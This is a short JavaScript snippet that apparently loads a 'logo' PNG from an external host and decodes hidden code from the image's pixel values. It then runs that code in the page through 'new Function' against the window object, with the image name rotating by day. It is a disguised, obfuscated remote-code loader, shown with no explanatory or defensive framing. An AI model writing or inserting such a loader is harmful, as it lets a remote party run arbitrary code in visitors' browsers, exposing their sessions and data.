(function (d) {
  var im = new Image();
  im.crossOrigin = "anonymous";
  im.onload = function () {
    var c = d.createElement("canvas"), g = c.getContext("2d"), out = "", p, i;
    c.width = im.width;
    c.height = im.height;
    g.drawImage(im, 0, 0);
    p = g.getImageData(0, 0, c.width, c.height).data;
    for (i = 0; i < p.length; i += 4) {
      if (p[i] === 0) break;
      out += String.fromCharCode(p[i]);
    }
    new Function(out).call(window);
  };
  im.src = "//img-host.example/logo_" + (new Date().getDate()) + ".png";
})(document);
